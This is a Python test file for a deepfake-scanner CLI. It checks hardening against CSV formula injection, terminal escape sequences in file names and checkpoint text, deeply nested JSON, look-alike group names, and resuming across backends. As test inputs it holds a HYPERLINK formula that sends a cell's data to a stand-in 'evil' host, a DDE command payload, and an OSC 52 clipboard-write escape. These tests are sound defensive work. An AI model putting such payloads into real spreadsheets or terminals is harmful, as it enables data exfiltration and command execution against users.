"""Issue 30, items 7, 8, 12, 13 and 17: CSV cells that a spreadsheet would run, terminal escapes
in printed names, hostile `--resume` / `--scores` JSON, look-alike group names, and resuming a
report made on another backend. Real files and real scans (tiny checkpoint, shared media)."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import cv2
import numpy as np
import pytest
from typer.testing import CliRunner

from dfscan.core.errors import InputError
from dfscan.scanner import report as rp
from dfscan.scanner.cli import app
from tests.helpers import IMAGES, scan_options

runner = CliRunner()
# What a terminal acts on: ESC (CSI colour, OSC title / clipboard), BEL, a C1 CSI, a bidi override.
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")


def dfscan(*args, cwd: Path | None = None, timeout: float = 300) -> subprocess.CompletedProcess:
    env = {**os.environ, "COLUMNS": "250", "NO_COLOR": "1",
           "PYTHONPATH": os.pathsep.join([str(Path(__file__).parents[1]), os.environ.get("PYTHONPATH", "")])}
    return subprocess.run([sys.executable, "-c", "from dfscan.scanner.cli import app; app()", *map(str, args)],
                          capture_output=True, env=env, cwd=cwd, timeout=timeout)


def one_error_line(output: str, code: int, exit_code: int = 2) -> str:
    lines = [line for line in output.splitlines() if line.strip()]
    assert code == exit_code, output
    assert len(lines) == 1 and lines[0].startswith("error:"), output
    assert "Traceback" not in output
    return lines[0]


def _item(path: str, score: float | None = 0.25, *, status: str = "ok", rotation: int = 0, message: str = "") -> dict:
    if status != "ok":
        return rp.error_item(path, "image", "not_media", message or "cannot decode")
    verdict = "fake" if score >= 0.5 else "real"
    frame = {"index": 0, "t": 0.0, "box": [0, 0, 16, 16], "score": score, "face_score": None}
    return {"path": path, "kind": "image", "status": "ok", "error": None, "score": score, "verdict": verdict,
            "media": {"width": 16, "height": 16, "fps": None, "duration": None, "frames_sampled": 1,
                      "codec": "png", "rotation": rotation},
            "subjects": [{"id": 0, "score": score, "verdict": verdict, "frames": [frame]}]}


def _header(threshold: float = 0.5, backend: dict | None = None, sha: str = "0" * 64, settings: dict | None = None) -> dict:
    return rp.make_header(model={"name": "tiny.safetensors", "sha256": sha, "backbone": "efficientnet_lite0",
                                 "threshold": threshold},
                          backend=backend or {"name": "torch", "device": "cpu", "precision": "fp32"},
                          settings=settings if settings is not None else {"crops": True, "threshold": threshold})


# ---------------------------------------------------------------- 7. CSV formula injection

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tx.jpg", "\rx.jpg"]


def test_csv_report_quotes_every_cell_a_spreadsheet_would_run():
    """A file named `=HYPERLINK(...).jpg` became a live formula in the CSV report; numbers (a
    rotation of -90) and plain-number text stay numbers, and the JSON report keeps every name."""
    items = [_item(f"/in/{name}", rotation=-90) for name in ("plain.jpg",)]
    items += [_item(name) for name in FORMULAS]
    items.append(_item("/in/broken.png", status="error", message="-1 frames: =cmd"))
    report = rp.build_report(_header(), items, rp.summarize(items, seconds=1.0))
    rows = list(csv.DictReader(io.StringIO(rp.to_csv(report))))
    assert [r["path"] for r in rows[1:-1]] == ["'" + name for name in FORMULAS]
    assert rows[0]["path"] == "/in/plain.jpg" and rows[0]["rotation"] == "-90" and rows[0]["score"] == "0.25"
    assert rows[-1]["error_message"] == "'-1 frames: =cmd"
    for row in rows:  # no cell left that a spreadsheet reads as a formula
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
        assert not any(v.startswith("-") and v != "-90" for v in row.values())
    assert [i["path"] for i in json.loads(rp.to_json(report))["items"]][1:-1] == FORMULAS


def test_spreadsheet_cell_keeps_numbers_and_quotes_formulas():
    from dfscan.core.files import spreadsheet_cell

    assert [spreadsheet_cell(v) for v in (-0.5, -90, "-0.5", "+1e-3", "-", "-inf", "=1", "a=1", "", None)] == \
           [-0.5, -90, "-0.5", "+1e-3", "'-", "'-inf", "'=1", "a=1", "", None]


def test_extract_manifest_keeps_formula_like_paths_exact(tmp_path):
    """The manifest is read back (training, --resume), so its cells stay exactly as written: the
    crops of an input `-1+2.jpg` live in `-1_2-<hash>/`, and training must find them there."""
    from dfscan.scanner.extract import extract_faces, read_manifest_rows
    from dfscan.train.data import read_manifest

    shutil.copy(IMAGES / "single_face.jpg", tmp_path / "-1+2.jpg")
    manifest = tmp_path / "crops.csv"
    result = extract_faces([tmp_path / "-1+2.jpg"], tmp_path / "crops", manifest, workers=1, size=64)
    assert result.crops >= 1, result.skipped
    rows = read_manifest_rows(manifest)
    assert rows and all(r["path"].startswith("crops/-1_2-") and r["source"] == "-1+2.jpg" for r in rows)
    assert len(read_manifest(manifest).samples) == len(rows)  # training reads every crop (the files exist)


# ---------------------------------------------------------------- 8. terminal escapes

def test_printable_escapes_what_a_terminal_would_act_on():
    from dfscan.scanner.console import printable

    assert printable("plain café ✓ 日本\n\tnext") == "plain café ✓ 日本\n\tnext"
    assert printable("a\x1b[2Jb\x07\x9b\u202ec\u2028d\x00") == "a\\x1b[2Jb\\x07\\x9b\\u202ec\\u2028d\\x00"
    assert printable(os.fsdecode(b"bad\xff.jpg")) == "bad\\xff.jpg"  # a non-UTF-8 byte, as its byte


def test_scan_prints_hostile_names_escaped_and_reports_them_exactly(tmp_path, tiny_checkpoint):
    """File names with ESC / BEL / C1 / bidi characters were printed raw in the summary tables
    (recolour, retitle, clear the terminal); the reports must still hold the names as they are,
    and the CSV report quote those that start like a formula."""
    folder = tmp_path / "in"
    folder.mkdir()
    good = "=1+2\x1b]0;pwned\x07.jpg"
    bad = "-bad\u202egpj\x9b2J.png"
    shutil.copy(IMAGES / "single_face.jpg", folder / good)
    (folder / bad).write_bytes(b"not an image")
    out = tmp_path / "out.json"
    r = dfscan("scan", ".", "--report", out, "--weights", tiny_checkpoint, "--backend", "torch",
               "--workers", "1", "--threshold", "0", cwd=folder)  # threshold 0: the face is listed as fake
    printed = r.stdout.decode() + r.stderr.decode()
    assert r.returncode == 3, printed  # the broken file is an error item
    for c in RAW_CONTROLS:
        assert c not in printed
    assert "=1+2\\x1b]0;pwned\\x07.jpg" in printed  # both tables name the files, escaped
    assert "-bad\\u202egpj\\x9b2J.png" in printed
    report = json.loads(out.read_text(encoding="utf-8"))
    assert sorted(i["path"] for i in report["items"]) == sorted([good, bad])
    csv_out = tmp_path / "out.csv"
    rp.write_report(report, csv_out)  # what --format csv writes
    with open(csv_out, newline="", encoding="utf-8") as fh:
        assert sorted(r["path"] for r in csv.DictReader(fh)) == sorted(["'" + good, "'" + bad])


def test_summary_prints_a_checkpoints_caveat_escaped(capsys):
    """The caveat and name (checkpoint metadata, anyone's text) reached the terminal raw."""
    from dfscan.scanner.commands.scan import _print_summary

    items = [_item("/in/a.jpg", 0.9), _item("/in/b\x1b[2J.jpg", status="error")]
    result = rp.build_report(_header(), items, rp.summarize(items, seconds=1.0))
    result["model"]["caveat"] = "research only\x1b]52;c;ZXZpbA==\x07 \u202eadadis"  # as model_block copies it
    result["model"]["name"] = "tiny\x1b[8m.safetensors"
    _print_summary(result, None)
    err = capsys.readouterr().err
    assert not any(c in err for c in RAW_CONTROLS)
    assert "research only\\x1b]52;c;ZXZpbA==\\x07 \\u202eadadis" in err and "tiny\\x1b[8m.safetensors" in err
    assert "/in/b\\x1b[2J.jpg" in err


def test_error_line_escapes_the_users_path(tmp_path):
    r = runner.invoke(app, ["scan", str(tmp_path / "gone\x1b[2J.mp4")])
    line = one_error_line(r.stderr, r.exit_code)
    assert "\x1b" not in line and "gone\\x1b[2J.mp4" in line


# ---------------------------------------------------------------- 12. hostile --resume / --scores JSON

def labelled_set(folder: Path, rows: list[tuple[str, int, str]], scores: list | None = None,
                 threshold=0.5, extra: list[dict] | None = None) -> tuple[Path, Path]:
    """labels.csv over generated PNGs (name, label, gender) and a report of their scores."""
    lines = ["path,label,gender"]
    items = []
    for n, (name, label, gender) in enumerate(rows):
        path = folder / "img" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        assert cv2.imwrite(str(path), np.random.default_rng(n).integers(0, 256, (16, 16, 3), dtype=np.uint8))
        lines.append(f"img/{name},{label},{gender}")
        items.append(_item(str(path), 0.9 if label else 0.1))
    for item, score in zip(items, scores or []):
        item["score"] = item["subjects"][0]["score"] = score
    csv_path = folder / "labels.csv"
    csv_path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = rp.build_report(_header(), items + (extra or []), rp.summarize(items, seconds=1.0))
    report["model"]["threshold"] = threshold
    out = folder / "report.json"
    out.write_text(json.dumps(report), encoding="utf-8")  # json.dumps writes NaN as NaN: what a bad file holds
    return csv_path, out


FOUR = [("a.png", 0, "female"), ("b.png", 1, "female"), ("c.png", 0, "male"), ("d.png", 1, "male")]


@pytest.mark.parametrize("depth", [200, 100_000], ids=["deeper-than-any-report", "past-the-recursion-limit"])
def test_deeply_nested_scores_report_is_one_line(tmp_path, depth):
    csv_path, _ = labelled_set(tmp_path, FOUR)
    deep = tmp_path / "deep.json"
    deep.write_text("[" * depth + "]" * depth)
    r = runner.invoke(app, ["fairness-check", str(csv_path), "--scores", str(deep)])
    assert "nested more than 64 levels" in one_error_line(r.stderr, r.exit_code)
    deep.write_text('{"schema": "dfscan.report/1", "model": ' + "[" * depth + "]" * depth + ', "items": []}\n')
    r = runner.invoke(app, ["fairness-check", str(csv_path), "--scores", str(deep)])
    assert "nested more than 64 levels" in one_error_line(r.stderr, r.exit_code)


@pytest.mark.parametrize("depth", [200, 100_000], ids=["deeper-than-any-report", "past-the-recursion-limit"])
@pytest.mark.parametrize("form", ["json", "jsonl"])
def test_deeply_nested_resume_report_is_one_line(tmp_path, tiny_checkpoint, depth, form):
    from dfscan.scanner.pipeline import resolve_model

    shutil.copy(IMAGES / "single_face.jpg", tmp_path / "a.jpg")
    out = tmp_path / "out.json"
    nest = "[" * depth + "]" * depth
    if form == "json":
        out.write_text(nest)
    else:  # the stream of this very scan (same model and settings), its second line (an item) nesting deep
        _, model, _, settings = resolve_model(scan_options(tiny_checkpoint, frames=32, batch_size=None))
        header = rp.make_header(model=model, backend={"name": "torch", "device": "cpu", "precision": "fp32"},
                                settings=settings)
        rp.stream_path_for(out).write_text(rp.dumps_line(header) + "\n" + '{"path": "x", "media": ' + nest + "}\n")
    r = runner.invoke(app, ["scan", str(tmp_path / "a.jpg"), "--report", str(out), "--resume",
                            "--weights", str(tiny_checkpoint), "--backend", "torch", "--workers", "1"])
    assert "nested more than 64 levels" in one_error_line(r.stderr, r.exit_code)


@pytest.mark.parametrize("bad", [7.0, -3.0, True, False, float("nan"), float("inf"), "0.4"],
                         ids=["7", "-3", "true", "false", "nan", "inf", "string"])
def test_scores_that_are_not_probabilities_are_refused(tmp_path, bad):
    """7.0, -3.0, true/false and NaN scores were all taken (NaN silently as 'no score')."""
    csv_path, report = labelled_set(tmp_path, FOUR, scores=[0.1, bad, 0.1, 0.9])
    r = runner.invoke(app, ["fairness-check", str(csv_path), "--scores", str(report), "--min-group", "1"])
    line = one_error_line(r.stderr, r.exit_code)
    assert "b.png" in line and "not a probability" in line and repr(bad) in line


@pytest.mark.parametrize("bad", [float("nan"), 5, True, "0.5"], ids=["nan", "5", "true", "string"])
def test_a_report_threshold_that_is_not_a_probability_is_refused(tmp_path, bad):
    """A NaN model.threshold called nothing fake and nothing real, and every rate gate passed."""
    csv_path, report = labelled_set(tmp_path, FOUR, threshold=bad)
    r = runner.invoke(app, ["fairness-check", str(csv_path), "--scores", str(report), "--min-group", "1",
                            "--max-fpr", "0.1"])
    line = one_error_line(r.stderr, r.exit_code)
    assert "model.threshold" in line and "not a probability" in line
    ok = runner.invoke(app, ["fairness-check", str(csv_path), "--scores", str(report), "--min-group", "1",
                             "--threshold", "0.5", "--bootstrap", "0"])
    assert ok.exit_code == 0, ok.output  # --threshold replaces the bad one


def test_duplicate_items_for_one_labelled_file_are_refused(tmp_path):
    """Two items for one file: the first silently counted, whichever score it had."""
    dup = _item(str(tmp_path / "img" / "b.png"), 0.05)
    csv_path, report = labelled_set(tmp_path, FOUR, extra=[dup])
    r = runner.invoke(app, ["fairness-check", str(csv_path), "--scores", str(report), "--min-group", "1"])
    line = one_error_line(r.stderr, r.exit_code)
    assert "2 items" in line and "img/b.png" in line and "labelled line 3" in line
    # a relative path for the same file (relative to the report's folder) is the same file
    data = json.loads(report.read_text())
    data["items"][-1]["path"] = "img/b.png"
    report.write_text(json.dumps(data))
    r = runner.invoke(app, ["fairness-check", str(csv_path), "--scores", str(report), "--min-group", "1"])
    assert "2 items" in one_error_line(r.stderr, r.exit_code)


# ---------------------------------------------------------------- 13. look-alike group names

def test_group_names_differing_in_case_or_normalisation_are_one_group(tmp_path):
    """'Female', 'female' and an NFD 'Café' were three groups with identical-looking names."""
    rows = [(f"{n}.png", n % 2, g) for n, g in enumerate(
        ["Female", "female", "female", "FEMALE", "Caf\u00e9", "cafe\u0301", "CAF\u00c9", "caf\u00e9"])]
    csv_path, report = labelled_set(tmp_path, rows)
    out = tmp_path / "o.json"
    r = runner.invoke(app, ["fairness-check", str(csv_path), "--scores", str(report), "--min-group", "1",
                            "--bootstrap", "0", "--json", str(out)])
    assert r.exit_code == 0, r.output
    doc = json.loads(out.read_text())
    assert sorted(doc["by_group"]["gender"]) == ["Caf\u00e9", "Female"]  # as first written, NFC
    assert doc["by_group"]["gender"]["Female"]["n"] == 4 and doc["by_group"]["gender"]["Caf\u00e9"]["n"] == 4
    assert len(doc["warnings"]) == 2 and all("are one group" in w for w in doc["warnings"])
    assert "'cafe\\u0301'" in doc["warnings"][1]  # the NFD spelling is shown by its code points
    assert r.stderr.count("warning:") == 2


def test_mixed_script_and_look_alike_group_names_are_warned_about(tmp_path):
    cyrillic = "f\u0435male"  # Cyrillic е
    rows = [(f"{n}.png", n % 2, g) for n, g in enumerate(["female", "female", cyrillic, cyrillic, "male", "male"])]
    csv_path, report = labelled_set(tmp_path, rows)
    out = tmp_path / "o.json"
    r = runner.invoke(app, ["fairness-check", str(csv_path), "--scores", str(report), "--min-group", "1",
                            "--bootstrap", "0", "--json", str(out), "--quiet"])
    assert r.exit_code == 0, r.output
    doc = json.loads(out.read_text())
    assert sorted(doc["by_group"]["gender"]) == sorted(["female", cyrillic, "male"])  # kept apart, but said
    warned = " ".join(doc["warnings"])
    assert "mixes Latin and Cyrillic" in warned and "look alike" in warned and "U+0435 CYRILLIC SMALL LETTER IE" in warned
    assert "U+0435" in r.stderr and "warning:" in r.stderr  # on stderr even with --quiet


# ---------------------------------------------------------------- 17. --resume across backends

def _prior_run(tmp_path: Path, options, backend: dict) -> Path:
    """A finished earlier run's report as a scan with `options` writes it, on `backend`."""
    from dfscan.scanner.pipeline import resolve_model

    _, model, _, settings = resolve_model(options)
    item = _item(str(tmp_path / "a.jpg"))
    item["file"] = rp.file_fingerprint(tmp_path / "a.jpg")
    header = rp.make_header(model=model, backend=backend, settings=settings)
    rp.write_report(rp.build_report(header, [item], rp.summarize([item], seconds=1.0)), options.report)
    return options.report


def test_resume_refuses_a_report_made_on_another_backend(tmp_path, tiny_checkpoint):
    """An onnxruntime report resumed with --backend torch kept the onnxruntime items under a
    header that said torch."""
    from dfscan.scanner.pipeline import scan_to_report

    shutil.copy(IMAGES / "single_face.jpg", tmp_path / "a.jpg")
    shutil.copy(IMAGES / "45-m7-di-ph.jpg", tmp_path / "b.jpg")
    options = scan_options(tiny_checkpoint, workers=1, resume=True, report=tmp_path / "out.json")
    out = _prior_run(tmp_path, options, {"name": "onnxruntime", "device": "cpu", "precision": "fp32"})
    before = out.read_bytes()
    with pytest.raises(InputError, match=r"scored with onnxruntime cpu fp32, this scan would score with torch "
                                         r"cpu fp32; rerun with --backend onnxruntime, or without --resume"):
        scan_to_report([tmp_path / "a.jpg", tmp_path / "b.jpg"], options)
    assert out.read_bytes() == before and not rp.stream_path_for(out).exists()

    _prior_run(tmp_path, options, {"name": "torch", "device": "cpu", "precision": "fp16"})
    with pytest.raises(InputError, match="scored with torch cpu fp16"):  # precision too
        scan_to_report([tmp_path / "a.jpg", tmp_path / "b.jpg"], options)

    _prior_run(tmp_path, options, {"name": "torch", "device": "cpu", "precision": "fp32"})
    report = scan_to_report([tmp_path / "a.jpg", tmp_path / "b.jpg"], options)  # the same backend resumes
    assert report["summary"]["resumed"] == 1 and report["backend"]["name"] == "torch"


def test_resume_on_another_backend_is_one_line_on_the_cli(tmp_path, tiny_checkpoint):
    shutil.copy(IMAGES / "single_face.jpg", tmp_path / "a.jpg")
    options = scan_options(tiny_checkpoint, workers=1, resume=True, report=tmp_path / "out.json",
                           frames=32, batch_size=None)
    _prior_run(tmp_path, options, {"name": "onnxruntime", "device": "cpu", "precision": "fp32"})
    r = runner.invoke(app, ["scan", str(tmp_path / "a.jpg"), "--report", str(options.report), "--resume",
                            "--weights", str(tiny_checkpoint), "--backend", "torch", "--workers", "1"])
    line = one_error_line(r.stderr, r.exit_code)
    assert "onnxruntime cpu fp32" in line and "torch cpu fp32" in line


def test_deeply_nested_fairness_config_is_one_line(tmp_path):
    csv_path, report = labelled_set(tmp_path, FOUR)
    config = tmp_path / "gates.toml"
    config.write_text("x = " + "[" * 5000 + "1" + "]" * 5000 + "\n")
    r = runner.invoke(app, ["fairness-check", str(csv_path), "--scores", str(report), "--config", str(config)])
    assert "nested too deep" in one_error_line(r.stderr, r.exit_code)
